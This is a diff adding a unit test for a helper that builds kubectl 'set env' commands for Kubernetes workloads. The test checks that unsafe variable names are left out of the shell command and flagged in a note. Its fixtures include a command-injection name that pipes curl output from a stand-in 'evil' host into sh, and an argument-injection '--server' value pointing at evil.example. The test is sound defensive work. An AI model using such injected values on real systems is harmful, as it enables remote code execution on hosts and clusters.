@@ -180,6 +180,16 @@ describe("the fix's commands", () => {
     });
   });
 
+  it("never types a variable name that is not a plain identifier into the shell: it is left to the manifest, and the note says so", () => {
+    const f = fixCommands(deploy(), r, { env: { "JAVA_OPTS;curl${IFS}evil|sh;X": "-Xmx768m", "--server": "https://evil.example/-Xmx768m", JAVA_TOOL_OPTIONS: "-Xmx768m" } });
+    expect(f.env).toBe("kubectl set env deployment/api -n shop -c app JAVA_TOOL_OPTIONS=-Xmx768m");
+    expect(f.note).toMatch(/2 heap variables have names that cannot be typed safely in a shell: change them in the manifest\.$/);
+    expect(`${f.patch}${f.kubectlPatch}`).not.toMatch(/curl|evil/);
+    const only = fixCommands(deploy(), r, { env: { "-Xmx": "-Xmx768m" } });
+    expect(only.env).toBeNull();
+    expect(only.note).toBe("One heap variable has a name that cannot be typed safely in a shell: change it in the manifest.");
+  });
+
   it("a CronJob's patch goes through its job template; a Job and a ReplicaSet are targets of their own", () => {
     const cron = fixCommands(deploy({ workload: { kind: "CronJob", name: "etl" } }), r);
     expect(cron.patch!.split("\n").slice(0, 6)).toEqual(["spec:", "  jobTemplate:", "    spec:", "      template:", "        spec:", "          containers:"]);
